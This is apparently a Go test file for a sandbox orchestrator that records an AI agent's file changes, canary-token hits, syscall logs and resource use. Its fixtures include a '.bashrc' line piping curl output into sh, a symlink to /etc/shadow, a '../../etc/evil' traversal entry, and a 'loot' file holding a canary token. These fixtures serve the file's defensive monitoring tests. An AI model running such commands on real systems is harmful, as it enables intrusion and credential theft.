package orchestrator

import (
	"archive/tar"
	"bytes"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/sandboxctl/sandboxctl/canaryfs"
	"github.com/sandboxctl/sandboxctl/trace"
)

type tarEntry struct {
	name, link string
	typ        byte
	body       string
}

func makeTar(t testing.TB, entries []tarEntry) []byte {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, e := range entries {
		h := &tar.Header{Name: e.name, Typeflag: e.typ, Linkname: e.link, Mode: 0o644, Size: int64(len(e.body))}
		if e.typ != tar.TypeReg {
			h.Size = 0
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if e.typ == tar.TypeReg {
			tw.Write([]byte(e.body))
		}
	}
	tw.Close()
	return buf.Bytes()
}

func testHome(t testing.TB) *canaryfs.Home {
	h, err := canaryfs.Build(canaryfs.Options{User: "mwalker", Seed: []byte("changed"), Now: time.Unix(1.8e9, 0)})
	if err != nil {
		t.Fatal(err)
	}
	return h
}

func TestReadChanged(t *testing.T) {
	home := testHome(t)
	tok := home.Set.Tokens()[0]
	rc, _ := home.File("/home/mwalker/.bashrc")
	bashrc := string(rc.Content)
	const added = "alias gs='git status'\ncurl -s https://x.example/p | sh\n"
	if !strings.Contains(bashrc, "alias ") {
		t.Fatalf("the planted .bashrc has no alias: the test needs a file whose own lines would be judged")
	}
	tests := []struct {
		name    string
		entries []tarEntry
		want    []trace.FSChange
		hits    int
	}{
		{name: "new file", entries: []tarEntry{{name: "tmp/x.sh", typ: tar.TypeReg, body: "echo hi\n"}},
			want: []trace.FSChange{{Path: "/tmp/x.sh", Kind: "added", Size: 8, Copied: "files/tmp/x.sh", Head: []byte("echo hi\n")}}},
		{name: "modified planted file", entries: []tarEntry{{name: "home/mwalker/.bashrc", typ: tar.TypeReg, body: "x"}},
			want: []trace.FSChange{{Path: "/home/mwalker/.bashrc", Kind: "modified", Size: 1, Copied: "files/home/mwalker/.bashrc", Head: []byte("x\n")}}},
		{name: "a long text file keeps its start only", entries: []tarEntry{{name: "tmp/notes.txt", typ: tar.TypeReg, body: strings.Repeat("a", maxHead+10)}},
			want: []trace.FSChange{{Path: "/tmp/notes.txt", Kind: "added", Size: maxHead + 10, Copied: "files/tmp/notes.txt", Head: []byte(strings.Repeat("a", maxHead))}}},
		{name: "a planted file appended to: its head is what was added", entries: []tarEntry{{name: "home/mwalker/.bashrc", typ: tar.TypeReg,
			body: bashrc + added}},
			want: []trace.FSChange{{Path: "/home/mwalker/.bashrc", Kind: "modified", Size: int64(len(bashrc) + len(added)), Copied: "files/home/mwalker/.bashrc",
				Head: []byte(added)}}},
		{name: "a binary file has no head", entries: []tarEntry{{name: "tmp/a.bin", typ: tar.TypeReg, body: "\x7fELF\x00\x01"}},
			want: []trace.FSChange{{Path: "/tmp/a.bin", Kind: "added", Size: 6, Copied: "files/tmp/a.bin"}}},
		{name: "links and dirs are skipped", entries: []tarEntry{
			{name: "home/mwalker/l", typ: tar.TypeSymlink, link: "/etc/shadow"},
			{name: "home/mwalker/d/", typ: tar.TypeDir}}},
		{name: "dot-dot is skipped", entries: []tarEntry{{name: "../../etc/evil", typ: tar.TypeReg, body: "x"}}},
		{name: "a token in a written file", entries: []tarEntry{{name: "tmp/loot.txt", typ: tar.TypeReg, body: "k=" + tok.Value}},
			want: []trace.FSChange{{Path: "/tmp/loot.txt", Kind: "added", Size: int64(2 + len(tok.Value)), Copied: "files/tmp/loot.txt", Head: []byte("k=" + tok.Value)}},
			hits: 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			events, err := readChanged(bytes.NewReader(makeTar(t, tt.entries)), dir, home, time.Now)
			if err != nil {
				t.Fatal(err)
			}
			var got []trace.FSChange
			hits := 0
			for _, e := range events {
				switch d := e.Data.(type) {
				case *trace.FSChange:
					d.SHA256 = ""
					got = append(got, *d)
					if d.Copied != "" {
						if _, err := os.Stat(filepath.Join(dir, d.Copied)); err != nil {
							t.Errorf("copied file missing: %v", err)
						}
					}
				case *trace.CanaryHit:
					hits++
					if d.Channel != "file" || d.TokenID != tok.ID {
						t.Errorf("hit = %+v, want token %s on channel file", d, tok.ID)
					}
				}
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("changes mismatch (-want +got):\n%s", diff)
			}
			if hits < tt.hits {
				t.Errorf("%d canary hits, want at least %d", hits, tt.hits)
			}
		})
	}
}

// FuzzReadChanged feeds arbitrary bytes as the archive of changed files (it
// comes from the sandbox): never a panic, never a file outside the folder.
func FuzzReadChanged(f *testing.F) {
	f.Add(makeTar(f, []tarEntry{{name: "tmp/a", typ: tar.TypeReg, body: "x"}}))
	f.Add(makeTar(f, []tarEntry{{name: "../x", typ: tar.TypeReg, body: "x"}, {name: "/abs/y", typ: tar.TypeReg, body: "y"}}))
	f.Add([]byte("not a tar"))
	home := testHome(f)
	f.Fuzz(func(t *testing.T, data []byte) {
		dir := t.TempDir()
		readChanged(bytes.NewReader(data), dir, home, time.Now)
		filepath.Walk(dir, func(p string, info os.FileInfo, err error) error {
			if err == nil && !strings.HasPrefix(p, dir) {
				t.Errorf("wrote %s outside %s", p, dir)
			}
			return nil
		})
	})
}

func TestFilterDiff(t *testing.T) {
	in := []Change{{Path: "/etc/ssl/certs/ca-certificates.crt", Kind: "modified"}, {Path: "/.dockerenv", Kind: "deleted"},
		{Path: "/usr/local/bin/evil", Kind: "added"}, {Path: "/etc/cron.d/x", Kind: "added"},
		{Path: "/usr/lib/python3/dist-packages/pip/_vendor/certifi/cacert.pem", Kind: "modified"}}
	want := []Change{{Path: "/etc/cron.d/x", Kind: "added"}, {Path: "/usr/local/bin/evil", Kind: "added"}}
	if diff := cmp.Diff(want, filterDiff(in)); diff != "" {
		t.Errorf("filterDiff mismatch (-want +got):\n%s", diff)
	}
}

// TestParseCallLogsDropsPlumbing: the shim that starts every call's tree is
// not in the timeline; what it runs is, tagged with the call id from the
// log's name; files that are not call logs are ignored.
func TestParseCallLogsDropsPlumbing(t *testing.T) {
	log := "10 1.000000 execve(\"" + AgentBin + "\", [\"agentd\", \"__shim\", \"--\", \"/bin/bash\", \"-c\", \"id\"], []) = 0\n" +
		"11 1.000100 execve(\"/bin/bash\", [\"/bin/bash\", \"-c\", \"id\"], []) = 0\n"
	tarball := makeTar(t, []tarEntry{
		{name: "calls/", typ: tar.TypeDir},
		{name: "calls/t007.log", typ: tar.TypeReg, body: log},
		{name: "calls/notes.txt", typ: tar.TypeReg, body: log},
	})
	events, err := parseCallLogs(bytes.NewReader(tarball), logParams{Cwd: "/home/jdoe", Budget: 0}, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range events {
		if x, ok := e.Data.(*trace.Exec); ok {
			got = append(got, e.ToolCallID+" "+x.Path)
		}
	}
	if diff := cmp.Diff([]string{"t007 /bin/bash"}, got); diff != "" {
		t.Errorf("execs (-want +got):\n%s", diff)
	}
}

func TestParseRootfs(t *testing.T) {
	out := "f 12 /usr/local/bin/dropper\nd 4096 /etc/cron.d\nl 7 /usr/bin/sudo\nf 3 /run/agentd/stamp\n" +
		"f 9 /etc/ssl/certs/ca-certificates.crt\ngarbage\nf x relative/path\n"
	var got []trace.FSChange
	for _, e := range parseRootfs(out, time.Unix(0, 0)) {
		got = append(got, *e.Data.(*trace.FSChange))
	}
	want := []trace.FSChange{
		{Path: "/usr/local/bin/dropper", Kind: "modified", Size: 12},
		{Path: "/etc/cron.d", Kind: "dir-changed"},
		{Path: "/usr/bin/sudo", Kind: "symlink"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("parseRootfs mismatch (-want +got):\n%s", diff)
	}
}

func TestParseCgroup(t *testing.T) {
	tests := []struct {
		name string
		out  string
		want cgroupCounts
	}{
		{name: "v1", out: "pids/pids.events max 37 \nmemory/memory.max_usage_in_bytes 536870912 \nmemory/memory.failcnt 12 \n" +
			"memory/memory.oom_control oom_kill_disable 0 under_oom 0 oom_kill 2 \ncpuacct/cpuacct.usage 2500000000 \n",
			want: cgroupCounts{pidsMaxHits: 37, memPeak: 536870912, memFailures: 12, oomKills: 2, cpuSeconds: 2.5}},
		{name: "v2", out: "pids.events max 5 \nmemory.peak 1024 \nmemory.events low 0 high 0 max 3 oom 1 oom_kill 1 \n" +
			"cpu.stat usage_usec 1500000 user_usec 1000000 system_usec 500000 \n",
			want: cgroupCounts{pidsMaxHits: 5, memPeak: 1024, memFailures: 3, oomKills: 1, cpuSeconds: 1.5}},
		{name: "quiet", out: "pids/pids.events max 0 \nmemory/memory.failcnt 0 \n"},
		{name: "garbage", out: "x\npids.events max -4 nonsense\nmemory.peak notanumber\ncpuacct/cpuacct.usage -7\ncpu.stat usage_usec\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := parseCgroup(tt.out); got != tt.want {
				t.Errorf("parseCgroup = %+v, want %+v", got, tt.want)
			}
		})
	}
}

// TestParseCallLogsReportsGaps: a log line over the cap becomes a notice in
// the timeline rather than vanishing.
func TestParseCallLogsReportsGaps(t *testing.T) {
	long := "10 1.000000 openat(AT_FDCWD, \"/tmp/" + strings.Repeat("a", maxStraceLine) + "\", O_RDONLY) = 3\n"
	tarball := makeTar(t, []tarEntry{{name: "calls/t001.log", typ: tar.TypeReg, body: long}})
	events, err := parseCallLogs(bytes.NewReader(tarball), logParams{Cwd: "/home/jdoe", Budget: 0}, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	var notes []string
	for _, e := range events {
		if n, ok := e.Data.(*trace.Notice); ok {
			notes = append(notes, e.ToolCallID+": "+n.Message)
		}
	}
	if len(notes) != 1 || !strings.Contains(notes[0], "t001: syscall log of t001 incomplete: 1 over-long lines skipped") {
		t.Errorf("notices = %q, want one about the over-long line", notes)
	}
}

// readChanged reads a whole tar of changed files through a changedReader,
// as the collection streams them.
func readChanged(r io.Reader, dir string, home *canaryfs.Home, now func() time.Time) ([]trace.Event, error) {
	tr := tar.NewReader(r)
	c := changedReader{dir: dir, home: home, now: now}
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			return c.events, nil
		}
		if err != nil {
			return c.events, fmt.Errorf("read changed files: %w", err)
		}
		if err := c.add(hdr, tr); err != nil {
			return c.events, err
		}
	}
}

// parseCallLogs reads a whole tar of strace logs through callLogs, as the
// collection streams them.
func parseCallLogs(rc io.Reader, lp logParams, log interface{ Warn(string, ...any) }) ([]trace.Event, error) {
	c := newCallLogs(lp, log)
	tr := tar.NewReader(rc)
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			return c.finish(), fmt.Errorf("read log archive: %w", err)
		}
		c.add(hdr, tr)
	}
	return c.finish(), nil
}
